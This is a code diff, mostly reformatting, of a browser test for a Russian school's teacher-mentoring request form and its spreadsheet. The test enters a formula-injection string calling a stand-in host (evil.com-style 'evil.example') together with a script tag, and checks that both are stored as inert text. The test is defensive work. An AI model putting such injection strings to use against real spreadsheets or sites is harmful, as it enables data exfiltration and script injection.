@@ -22,12 +22,18 @@ test('a teacher fills the request form in the browser; the new mentee appears in
     const formUrl = await requestFormUrl(page, url);
     const teacher = await page.context().newPage();
     await teacher.goto(formUrl);
-    assert.match((await teacher.textContent('h1')) ?? '', /^Профессиональные запросы педагогов — МБОУ «СОШ № 7», 2026\/2027 учебный год$/);
+    assert.match(
+      (await teacher.textContent('h1')) ?? '',
+      /^Профессиональные запросы педагогов — МБОУ «СОШ № 7», 2026\/2027 учебный год$/,
+    );
 
     // Sending it empty: the form refuses in Russian, nothing is recorded.
     await teacher.click('button[type="submit"]');
     await teacher.waitForSelector(`${q('Фамилия, имя, отчество')} .error`);
-    assert.equal((await teacher.textContent(`${q('Фамилия, имя, отчество')} .error`))?.trim(), 'Это обязательный вопрос.');
+    assert.equal(
+      (await teacher.textContent(`${q('Фамилия, имя, отчество')} .error`))?.trim(),
+      'Это обязательный вопрос.',
+    );
     await screenshot('forms-request-refused');
 
     await teacher.fill(`${q('Адрес электронной почты')} input`, 'k.belova@sosh2.example');
@@ -37,10 +43,18 @@ test('a teacher fills the request form in the browser; the new mentee appears in
     await teacher.fill(`${q('Педагогический стаж (полных лет)')} input`, '2');
     await teacher.fill(`${q('Дата приёма на работу в школу')} input`, '2024-08-26');
     await teacher.check(`${q('Категория наставляемого')} input[value="молодой специалист (стаж до 3 лет)"]`);
-    await teacher.check(`${q('Профессиональные запросы')} input[value="Подготовка обучающихся к ГИА (ОГЭ, ЕГЭ) и ВПР"]`);
+    await teacher.check(
+      `${q('Профессиональные запросы')} input[value="Подготовка обучающихся к ГИА (ОГЭ, ЕГЭ) и ВПР"]`,
+    );
     await teacher.check(`${q('Профессиональные запросы')} input[value="__other__"]`);
-    await teacher.fill(`${q('Профессиональные запросы')} input[type="text"]`, 'Лабораторные работы с опасными реактивами');
-    await teacher.fill(`${q('Опишите профессиональные затруднения')} textarea`, '=IMPORTXML("http://evil.example","//a") <script>alert(1)</script>');
+    await teacher.fill(
+      `${q('Профессиональные запросы')} input[type="text"]`,
+      'Лабораторные работы с опасными реактивами',
+    );
+    await teacher.fill(
+      `${q('Опишите профессиональные затруднения')} textarea`,
+      '=IMPORTXML("http://evil.example","//a") <script>alert(1)</script>',
+    );
     await teacher.check(`${q('Желаемая форма наставничества')} input[value="индивидуальная"]`);
     await teacher.check(`${q('Согласие на обработку персональных данных')} input[type="checkbox"]`);
     await teacher.check(`${q('Согласие на участие в программе наставничества')} input[type="checkbox"]`);
@@ -64,7 +78,10 @@ test('a teacher fills the request form in the browser; the new mentee appears in
     assert.ok(cells.includes('форма'), 'source «форма»');
     assert.ok(cells.includes('ожидает'), 'status «ожидает»');
     const request = cells.find((c) => c.startsWith('Другое: Лабораторные работы')) ?? '';
-    assert.ok(request.includes('=IMPORTXML("http://evil.example","//a") <script>alert(1)</script>'), 'the teacher’s words, formula and markup as text');
+    assert.ok(
+      request.includes('=IMPORTXML("http://evil.example","//a") <script>alert(1)</script>'),
+      'the teacher’s words, formula and markup as text',
+    );
     const bank = openSpreadsheet(playground.session.world).getSheetByName('Наставляемые')!;
     assert.deepEqual(bank.getDataRange().getFormulas().flat().filter(Boolean), [], 'no cell holds a formula');
     await screenshot('forms-new-mentee');
@@ -79,7 +96,9 @@ test('the «Формы» panel shows both forms, copies the link and settles a �
     const link = await frame.inputValue('[data-form="requests"] input.forms-link');
     assert.match(link, /^https:\/\/docs\.google\.com\/forms\/d\/e\/.+\/viewform$/);
     await frame.click('[data-form="requests"] button[data-action="copy"]');
-    await frame.waitForFunction(() => /скопир/i.test(document.querySelector('[data-form="requests"] [role="status"]')?.textContent ?? ''));
+    await frame.waitForFunction(() =>
+      /скопир/i.test(document.querySelector('[data-form="requests"] [role="status"]')?.textContent ?? ''),
+    );
 
     // The demo's answer with only a surname waits in «Карантин»; the curator rejects it.
     const item = frame.locator('[data-quarantine] li', { hasText: 'Семёнова' });
